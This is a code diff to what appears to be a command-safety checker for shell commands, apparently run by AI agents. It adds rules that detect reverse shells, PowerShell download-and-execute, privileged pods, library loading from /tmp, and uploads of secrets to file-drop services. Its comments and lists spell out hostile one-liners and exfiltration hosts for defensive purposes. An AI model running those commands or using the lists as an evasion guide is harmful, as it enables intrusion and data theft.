@@ -263,6 +263,9 @@ pub(crate) fn is_interpreter(name: &str) -> bool {
                 | "bun"
                 | "deno"
                 | "pwsh"
+                | "powershell"
+                | "iex"
+                | "Invoke-Expression"
                 | "osascript"
                 | "jjs"
                 | "jrunscript"
@@ -281,6 +284,18 @@ pub(crate) fn is_interpreter(name: &str) -> bool {
 pub(crate) fn reads_program(c: &SimpleCommand, name: &str) -> bool {
     if !(is_shell(name) || is_interpreter(name) || matches!(name, "source" | ".")) {
         return false;
+    }
+    // `pwsh -c -`, `powershell -Command -`: the command is read from standard input.
+    if matches!(name, "pwsh" | "powershell")
+        && c.argv.windows(2).any(|w| {
+            w[1].text == "-"
+                && matches!(
+                    w[0].text.to_ascii_lowercase().as_str(),
+                    "-c" | "-command" | "-f" | "-file"
+                )
+        })
+    {
+        return true;
     }
     if c.code.is_some() && !matches!(c.stdin, Source::HereDoc(_) | Source::HereString(_)) {
         return false;
@@ -353,6 +368,10 @@ pub(crate) fn is_downloader(name: &str) -> bool {
             | "lwp-request"
             | "GET"
             | "axel"
+            | "iwr"
+            | "irm"
+            | "Invoke-WebRequest"
+            | "Invoke-RestMethod"
             | "links"
             | "lynx"
             | "elinks"
@@ -525,7 +544,10 @@ fn apply_entry(cmd: &'static Command, c: &SimpleCommand, j: &mut Judged) {
                             | "--user"
                             | "-s"
                             | "--server"
-                    );
+                    )
+                    // `apt-get -o Acquire::Retries=3 install x`, `apt-get -t bookworm install x`.
+                    || (matches!(a, "-o" | "-t")
+                        && matches!(cmd.name, "apt" | "apt-get" | "apt-cache" | "aptitude"));
                 continue;
             }
             if n < 2 {
@@ -1032,7 +1054,140 @@ fn secret_var(t: &str) -> bool {
 }
 
 fn context_rules(c: &SimpleCommand, name: &str, facts: NameFacts, j: &mut Judged) {
-    let via_wrapper = c.via.iter().any(|w| {
+    // `rcat connect -s bash 10.0.0.1 4444`, `tool --exec /bin/sh 10.0.0.1:4444`: a program
+    // (netcat-like, whatever its name) handed a shell to run and an address and port.
+    if !facts.shell {
+        let args: Vec<&str> = c.args().collect();
+        let shell_opt = args.windows(2).any(|w| {
+            matches!(
+                w[0],
+                "-e" | "-s" | "-c" | "--exec" | "--shell" | "--sh-exec" | "-x"
+            ) && is_shell(w[1].rsplit('/').next().unwrap_or(w[1]))
+        });
+        let ipv4 = |a: &str| {
+            let host = a.split(':').next().unwrap_or(a);
+            let parts: Vec<&str> = host.split('.').collect();
+            parts.len() == 4
+                && parts
+                    .iter()
+                    .all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|b| b.is_ascii_digit()))
+        };
+        let port = |a: &str| !a.is_empty() && a.len() <= 5 && a.bytes().all(|b| b.is_ascii_digit());
+        let address = args.iter().any(|a| ipv4(a) && a.contains(':'))
+            || (args.iter().any(|a| ipv4(a)) && args.iter().any(|a| port(a)));
+        if shell_opt && address {
+            j.deny(
+                "net.reverse-shell",
+                C_REVERSE,
+                "a program is handed a shell to run and a network address (reverse or bind shell)",
+            );
+        }
+    }
+    // `kubectl run x --overrides='{"spec":{"hostPID":true,...,"privileged":true}}'`: a pod
+    // with the host's processes or full privileges (a way onto the node).
+    if matches!(name, "kubectl" | "oc")
+        && c.args().any(|a| {
+            let a: String = a.chars().filter(|ch| !ch.is_whitespace()).collect();
+            a.starts_with("--overrides=") || a.starts_with('{')
+        })
+    {
+        let host = c.args().any(|a| {
+            let a: String = a.chars().filter(|ch| !ch.is_whitespace()).collect();
+            a.contains("\"privileged\":true")
+                || a.contains("\"hostPID\":true")
+                || a.contains("\"path\":\"/\"")
+        });
+        if host {
+            j.deny(
+                "docker.privileged",
+                C_PRIV | C_SHELL,
+                "starts a pod with full privileges, the host's processes or the host's root",
+            );
+        }
+    }
+    // `go run github.com/x/y@latest`: a module fetched from the network and run at once, like
+    // `npx pkg`.
+    if name == "go"
+        && c.args().next() == Some("run")
+        && c.args().skip(1).any(|a| {
+            !a.starts_with(['-', '.', '/'])
+                && a.split('/').next().is_some_and(|d| d.contains('.'))
+                && a.contains('/')
+                && !a.ends_with(".go")
+        })
+    {
+        j.hit_alt(
+            "download.run-package",
+            Decision::Ask,
+            Risk::High,
+            Capabilities::EXECUTES_CODE | Capabilities::NETWORK_DOWNLOAD,
+            "downloads a Go module and runs it",
+            "read the module's source first, then go install a pinned version",
+        );
+    }
+    // `sudo screen`, `sudo tmux`, `sudo tmux new -s x`: a multiplexer session whose shell is
+    // root's (a command given to it is judged on its own).
+    if c.privileged && matches!(name, "screen" | "tmux") {
+        let mut rest: Vec<&str> = Vec::new();
+        let mut skip = false;
+        for (i, a) in c.args().enumerate() {
+            if skip {
+                skip = false;
+                continue;
+            }
+            if matches!(a, "-S" | "-s" | "-n" | "-c" | "-L" | "-f" | "-T") {
+                skip = true;
+            } else if !(matches!(a, "-d" | "-D" | "-A" | "-m" | "-dm" | "-dmS")
+                || (name == "tmux" && i == 0 && matches!(a, "new" | "new-session")))
+            {
+                rest.push(a);
+            }
+        }
+        if rest.is_empty() {
+            j.deny(
+                "privilege.root-shell",
+                C_PRIV | C_SHELL,
+                "starts a terminal multiplexer session with a root shell",
+            );
+        }
+    }
+    // `git -c core.pager='sh -c id' log`, `SYSTEMD_PAGER='sh -c ...' systemctl`, `rsync -e 'sh
+    // -c ...'`: an ordinary program's command option or variable is set to a shell.
+    if c.via.windows(2).any(|w| {
+        matches!(w[0].kind, WrapperKind::Option | WrapperKind::EnvVar)
+            && w[1].kind == WrapperKind::Shell
+            && is_shell(&w[1].program)
+    }) {
+        j.deny(
+            "gtfo.exec-option",
+            C_SHELL,
+            "a program's command option or variable is set to a shell that runs code",
+        );
+    }
+    // `aria2c --on-download-error=/tmp/x.sh`, `scp -S /tmp/x`: a hook runs a program from a
+    // scratch directory (written there moments before).
+    if c.via.last().is_some_and(|w| w.kind == WrapperKind::Option)
+        && c.argv.first().is_some_and(|w| {
+            w.dynamic
+                || ["/tmp/", "/var/tmp/", "/dev/shm/"]
+                    .iter()
+                    .any(|d| w.text.starts_with(d))
+        })
+    {
+        j.deny(
+            "gtfo.exec-option",
+            C_SHELL,
+            "a program's command option runs a program from a scratch directory",
+        );
+    }
+    // Wrappers before the last hop to another machine (`timeout 9 ssh host bash -s`,
+    // `sshpass -e ssh host sh`) wrap the local client, not the remote shell.
+    let local = c
+        .via
+        .iter()
+        .rposition(|w| w.kind == WrapperKind::Remote)
+        .map_or(0, |r| r + 1);
+    let via_wrapper = c.via.get(local..).unwrap_or(&[]).iter().any(|w| {
         let replaces_shell = w.kind == WrapperKind::Prefix
             && matches!(
                 w.program.as_str(),
@@ -1230,6 +1385,38 @@ fn history_or_log_write(t: &str, j: &mut Judged) {
 fn assignment_rules(c: &SimpleCommand, j: &mut Judged) {
     for a in &c.assignments {
         assignment(&a.name, &a.value.text, j);
+        // `sudo PYTHONPATH=/tmp/mods /usr/bin/backup.py`: code from a writable directory loaded
+        // by a program run as root.
+        let v = a.value.text.as_str();
+        if c.privileged
+            && matches!(
+                a.name.as_str(),
+                "PYTHONPATH"
+                    | "PYTHONSTARTUP"
+                    | "PERL5LIB"
+                    | "PERLLIB"
+                    | "PERL5OPT"
+                    | "RUBYLIB"
+                    | "RUBYOPT"
+                    | "NODE_PATH"
+                    | "NODE_OPTIONS"
+                    | "GEM_PATH"
+                    | "CLASSPATH"
+            )
+            && v.split(':').any(|p| {
+                ["/tmp", "/var/tmp", "/dev/shm"]
+                    .iter()
+                    .any(|d| p.starts_with(d))
+                    || p.starts_with("-r/tmp")
+                    || p.contains(" /tmp/")
+            })
+        {
+            j.deny(
+                "env.code-injection",
+                Capabilities::EXECUTES_CODE | Capabilities::PRIVILEGE_ESCALATION,
+                "a program run as root loads code from a writable directory",
+            );
+        }
     }
 }
 
@@ -1302,6 +1489,7 @@ const COMMAND_RULE_NAMES: &[&str] = &[
     "--trim-sector",
     "--unzip-command",
     "--use-compress-program",
+    "--use-compress-program=",
     "--vacuum-time=",
     "--zero-superblock",
     "-D",
@@ -1481,6 +1669,7 @@ const COMMAND_RULE_NAMES: &[&str] = &[
     "ngrok",
     "nmap",
     "npm",
+    "npx",
     "nvim",
     "oc",
     "oci",
@@ -1497,12 +1686,14 @@ const COMMAND_RULE_NAMES: &[&str] = &[
     "pkill",
     "podman",
     "poweroff",
+    "powershell",
     "print",
     "private key",
     "private_key",
     "psql",
     "pulumi",
     "pwncat",
+    "pwsh",
     "python",
     "rc-service",
     "rclone",
@@ -1715,6 +1906,22 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
         "docker" | "podman" | "nerdctl" => docker_rules(c, j),
         "kubectl" | "oc" => kubectl_rules(c, j),
         "terraform" | "tofu" | "terragrunt" => {
+            // `terraform state rm ADDR`: the resource is forgotten, the next apply recreates it
+            // beside the orphaned original (or a later destroy misses it).
+            if c.args()
+                .collect::<Vec<_>>()
+                .windows(2)
+                .any(|w| w == ["state", "rm"])
+            {
+                j.hit_alt(
+                    "terraform.state-rm",
+                    Decision::Deny,
+                    Risk::Critical,
+                    C_DESTRUCTIVE,
+                    "removes resources from the Terraform state (they are orphaned)",
+                    "terraform state list, then terraform plan to see the effect",
+                );
+            }
             let destroy = c.args().any(|a| a == "destroy")
                 || (c.args().any(|a| a == "apply") && c.args().any(|a| a == "-destroy"));
             let targeted = c
@@ -1752,6 +1959,23 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
                 }
             }
         }
+        "npx" => {
+            // `npx --yes https://host/pkg.tgz`: a package fetched from an arbitrary address
+            // and run at once.
+            if let Some(spec) = c.args().find(|a| !a.starts_with('-'))
+                && (spec.starts_with("http://") || spec.starts_with("https://"))
+            {
+                j.hit_alt(
+                    "download.exec",
+                    Decision::Deny,
+                    Risk::Critical,
+                    Capabilities::EXECUTES_CODE | Capabilities::NETWORK_DOWNLOAD,
+                    "downloads a package from an arbitrary address and runs it",
+                    "download the package, read it, then install it",
+                );
+            }
+        }
+        "pwsh" | "powershell" => powershell_rules(c, j),
         "crontab" => {
             if has_short(c, 'r') {
                 j.deny(
@@ -1883,17 +2107,26 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
                     }
                 }
             }
+            // The mode of `install -m MODE`, `-mMODE`, `--mode=MODE`, `--mode MODE`.
+            let mut modes = c.argv.iter().enumerate().filter_map(|(i, w)| {
+                let t = w.text.as_str();
+                if t == "-m" || t == "--mode" {
+                    c.argv.get(i + 1).map(|v| v.text.as_str())
+                } else if let Some(m) = t.strip_prefix("--mode=") {
+                    Some(m)
+                } else {
+                    t.strip_prefix("-m").filter(|m| !m.is_empty())
+                }
+            });
             if name == "install"
-                && c.argv.windows(2).any(|w| {
-                    let m = w[1].text.as_str();
-                    w[0].text == "-m"
-                        && ((m.len() == 4 && matches!(m.as_bytes()[0], b'2' | b'4' | b'6' | b'7'))
-                            // `install -m =xs`, `u+s`: the set-uid bit in symbolic form.
-                            || (!m.bytes().all(|b| b.is_ascii_digit())
-                                && m.split(',').any(|p| {
-                                    p.contains(['=', '+'])
-                                        && p.rsplit(['=', '+']).next().is_some_and(|r| r.contains('s'))
-                                })))
+                && modes.any(|m| {
+                    (m.len() == 4 && matches!(m.as_bytes()[0], b'2' | b'4' | b'6' | b'7'))
+                        // `install -m =xs`, `u+s`: the set-uid bit in symbolic form.
+                        || (!m.bytes().all(|b| b.is_ascii_digit())
+                            && m.split(',').any(|p| {
+                                p.contains(['=', '+'])
+                                    && p.rsplit(['=', '+']).next().is_some_and(|r| r.contains('s'))
+                            }))
                 })
             {
                 j.deny("privilege.setuid", C_PRIV, "installs a set-uid program");
@@ -2550,11 +2783,16 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
             if (c.args().any(|a| {
                 a.starts_with("--checkpoint-action=exec")
                     || a.starts_with("--to-command")
-                    || a.starts_with("--use-compress-program")
+                    || a.strip_prefix("--use-compress-program=")
+                        .is_some_and(|p| !is_compressor(p))
                     || a.starts_with("--rsh-command")
                     || a.starts_with("--info-script")
                     || a.starts_with("--new-volume-script")
-            }) || c.args().any(|a| a == "-I" || a == "-F")) =>
+            }) || c.argv.windows(2).any(|w| {
+                (w[0].text == "-F")
+                    || (matches!(w[0].text.as_str(), "-I" | "--use-compress-program")
+                        && !is_compressor(&w[1].text))
+            })) =>
         {
             j.deny(
                 "gtfo.exec-option",
@@ -2601,6 +2839,16 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
             if c.args().any(|a| a == "s_client" || a == "s_server")
                 && c.stdin != Source::Inherited =>
         {
+            // `openssl s_client -connect host:443 < /etc/passwd`: a file sent as is.
+            if let Source::File(f) = &c.stdin
+                && upload_secret(&f.text)
+            {
+                j.deny(
+                    "net.upload-file",
+                    C_UPLOAD | Capabilities::FILE_READ,
+                    "sends a secret or the password database to another host",
+                );
+            }
             j.ask(
                 "net.upload-pipe",
                 C_UPLOAD,
@@ -2609,6 +2857,31 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
         }
         "source" | "." => {}
         _ => {}
+    }
+    // `openssl enc -in x -out /etc/cron.d/x`: the output file is written.
+    if name == "openssl" {
+        for w in c.argv.windows(2) {
+            if w[0].text == "-out" {
+                write_target(&w[1].text, j);
+            }
+        }
+        // `openssl req -engine ./lib.so`: an engine given as a file is a library loaded.
+        if c.argv.windows(2).any(|w| {
+            w[0].text == "-engine" && (w[1].text.contains('/') || w[1].text.ends_with(".so"))
+        }) {
+            j.deny(
+                "gtfo.library-load",
+                C_SHELL,
+                "openssl loads a shared library given as an engine file",
+            );
+        }
+    }
+    // `tftp HOST -c get REMOTE LOCAL`: the local file is written.
+    if name == "tftp"
+        && let Some(i) = c.argv.iter().position(|w| w.text == "get")
+        && let [_, local] = c.argv.get(i + 1..).unwrap_or(&[])
+    {
+        write_target(&local.text, j);
     }
 }
 
@@ -3689,12 +3962,59 @@ fn http_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
         if name == "wget" && (*a == "-O" || *a == "--output-document") {
             write_target(next, j);
         }
+        // `wget -P /etc/cron.d/ URL`: the file lands in that directory under the URL's name.
+        if name == "wget"
+            && let Some(dir) = (if *a == "-P" || *a == "--directory-prefix" {
+                Some(next)
+            } else {
+                a.strip_prefix("--directory-prefix=")
+            })
+            && let Some(url) = args.iter().find(|u| u.contains("://"))
+        {
+            let file = url
+                .rsplit('/')
+                .next()
+                .filter(|f| !f.is_empty())
+                .unwrap_or("index.html");
+            write_target(&format!("{}/{file}", dir.trim_end_matches('/')), j);
+        }
     }
     if let Some(f) = upload_file {
         if f == "-" && c.stdin == Source::Inherited {
             return;
         }
-        if paths::read_class(f) == ReadClass::Secret || paths::outside_project(f) || f == "-" {
+        // Anonymous file-drop and request-capture services keep what they receive for anyone
+        // holding the link; an env file holds the project's secrets.
+        let drop_host = args.iter().any(|a| {
+            let host = a
+                .split_once("://")
+                .map_or("", |(_, r)| r.split(['/', ':', '?']).next().unwrap_or(""));
+            [
+                "transfer.sh",
+                "webhook.site",
+                "file.io",
+                "0x0.st",
+                "temp.sh",
+                "bashupload.com",
+                "termbin.com",
+                "paste.c-net.org",
+                "requestbin.net",
+                "pipedream.net",
+                "oast.fun",
+                "interact.sh",
+                "ngrok.io",
+                "ngrok-free.app",
+            ]
+            .iter()
+            .any(|d| host == *d || host.ends_with(&format!(".{d}")))
+        });
+        let env_file = toolcap_shell::basename(f).starts_with(".env");
+        if paths::read_class(f) == ReadClass::Secret
+            || paths::outside_project(f)
+            || f == "-"
+            || drop_host
+            || env_file
+        {
             j.deny(
                 "net.upload-file",
                 C_UPLOAD | Capabilities::FILE_READ,
@@ -4412,6 +4732,81 @@ fn cloud_upload_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
     }
 }
 
+/// `tar -I 'zstd -T0'`, `--use-compress-program=pigz`: a compression program (with options),
+/// the ordinary use of the option; the command is still judged as what tar runs.
+fn is_compressor(program: &str) -> bool {
+    let mut words = program.split_whitespace();
+    let first = words.next().unwrap_or("");
+    let base = first.rsplit('/').next().unwrap_or(first);
+    matches!(
+        base,
+        "gzip"
+            | "pigz"
+            | "zstd"
+            | "pzstd"
+            | "zstdmt"
+            | "xz"
+            | "pixz"
+            | "bzip2"
+            | "pbzip2"
+            | "lbzip2"
+            | "lz4"
+            | "lzip"
+            | "plzip"
+            | "lzop"
+            | "brotli"
+            | "lzma"
+            | "unpigz"
+    ) && words.all(|w| w.starts_with('-') && !w.contains(['$', '`', ';', '|', '&']))
+}
+
+/// PowerShell given a base64-encoded command (`-enc`, `-EncodedCommand`) or a command that
+/// downloads code and runs it (`iex (iwr URL)`, `IEX (New-Object Net.WebClient).DownloadString`).
+fn powershell_rules(c: &SimpleCommand, j: &mut Judged) {
+    // PowerShell takes any unambiguous prefix of a parameter name: `-e`, `-ec`, `-enc`, ...
+    let encoded = c.args().any(|a| {
+        let l = a.trim_start_matches('-').to_ascii_lowercase();
+        a.starts_with('-')
+            && (l == "e" || l == "ec" || (l.len() >= 2 && "encodedcommand".starts_with(&l)))
+    });
+    if encoded {
+        j.hit_alt(
+            "shell.encoded-command",
+            Decision::Deny,
+            Risk::Critical,
+            C_SHELL,
+            "runs a base64-encoded PowerShell command that the line does not show",
+            "run the decoded script from a file after reading it",
+        );
+    }
+    let text = c.args().collect::<Vec<_>>().join(" ").to_ascii_lowercase();
+    let runs = text.contains("iex") || text.contains("invoke-expression");
+    let fetches = [
+        "iwr ",
+        "irm ",
+        "invoke-webrequest",
+        "invoke-restmethod",
+        "downloadstring",
+        "downloaddata",
+        "net.webclient",
+        "curl ",
+        "wget ",
+        "start-bitstransfer",
+    ]
+    .iter()
+    .any(|f| text.contains(f));
+    if runs && fetches {
+        j.hit_alt(
+            "download.exec",
+            Decision::Deny,
+            Risk::Critical,
+            Capabilities::EXECUTES_CODE | Capabilities::NETWORK_DOWNLOAD,
+            "downloads PowerShell code and runs it",
+            "download to a file, read it, then run it",
+        );
+    }
+}
+
 /// `[user@]host:path`, `host::module` or an `rsync://`/`scp://`/`sftp://` address.
 fn remote_spec(w: &str) -> bool {
     if let Some((scheme, _)) = w.split_once("://") {
@@ -4431,7 +4826,7 @@ fn remote_spec(w: &str) -> bool {
 
 /// A local file that must not be copied to another machine: a secret, the password and group
 /// databases, a whole home, `/`, `/etc` or `/root`.
-fn upload_secret(p: &str) -> bool {
+pub(crate) fn upload_secret(p: &str) -> bool {
     let n = paths::normalize(p);
     paths::read_class(&n) == ReadClass::Secret
         || matches!(paths::target(&n, false), Target::Root | Target::Home)
@@ -4506,6 +4901,14 @@ fn remote_copy_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
                 && remote_spec(dest)
             {
                 sent.extend(sources.iter().copied().filter(|s| !remote_spec(s)));
+            }
+            // `scp host:/x ~/.ssh/authorized_keys`: a remote file copied over a local one.
+            if name == "scp"
+                && let Some((dest, sources)) = ops.split_last()
+                && !remote_spec(dest)
+                && sources.iter().any(|s| remote_spec(s))
+            {
+                write_target(dest, j);
             }
         }
         _ => {
@@ -4694,6 +5097,9 @@ pub(crate) fn stdin_shell_escape(name: &str, text: &str) -> bool {
     match name {
         "ed" | "red" | "ex" | "ftp" | "lftp" | "tftp" | "sftp" | "cpan" | "gdb" | "mail"
         | "mailx" => escape(&["!"]),
+        // The pagers' `!cmd`, and the systemd tools that page their output through less.
+        "less" | "more" | "most" | "pg" | "man" | "journalctl" | "systemctl" | "loginctl"
+        | "timedatectl" | "localectl" | "networkctl" | "coredumpctl" | "busctl" => escape(&["!"]),
         "mysql" | "mariadb" | "psql" => escape(&["\\!", "system ", "\\system "]),
         "sqlite3" => escape(&[".shell ", ".system "]),
         _ if is_interpreter(name)
@@ -5080,6 +5486,38 @@ fn code_spawns_shell(code: &str) -> bool {
 
 /// Inline interpreter code: reverse shells, download-and-run, secret reads, setuid.
 fn code_rules(code: &str, j: &mut Judged) {
+    // `ctypes.CDLL("/tmp/x.so")`, `cdll.LoadLibrary("./x.so")`, `DynaLoader::dl_load_file`,
+    // `FFI::cdef`/`ffi.load`: a shared library from a scratch or relative path loaded into the
+    // interpreter (its constructor runs at once).
+    let loads = [
+        "LoadLibrary(",
+        "CDLL(",
+        "dlopen(",
+        "dl_load_file(",
+        "ffi.load(",
+        "FFI::cdef(",
+        "System.load(",
+        "process.dlopen(",
+    ]
+    .iter()
+    .any(|f| code.contains(f));
+    if loads
+        && code.split(['"', '\'']).any(|lit| {
+            lit.ends_with(".so")
+                && (lit.starts_with("/tmp/")
+                    || lit.starts_with("/var/tmp/")
+                    || lit.starts_with("/dev/shm/")
+                    || lit.starts_with("./")
+                    || lit.starts_with("../"))
+                && !lit.contains(char::is_whitespace)
+        })
+    {
+        j.deny(
+            "gtfo.library-load",
+            C_SHELL,
+            "inline code loads a shared library from a scratch or relative path",
+        );
+    }
     let socket = [
         "socket",
         "Socket",
@@ -5207,6 +5645,19 @@ fn code_rules(code: &str, j: &mut Judged) {
         ">>",
         "\">\"",
         "'>'",
+        // Writers that take the target as an argument.
+        "urlretrieve",
+        "shutil.copy",
+        "shutil.move",
+        "copyfile",
+        "os.rename",
+        "os.replace",
+        "os.symlink",
+        "FileUtils.cp",
+        "copyFileSync",
+        "symlinkSync",
+        "write_text",
+        "write_bytes",
     ]
     .iter()
     .any(|m| code.contains(m));
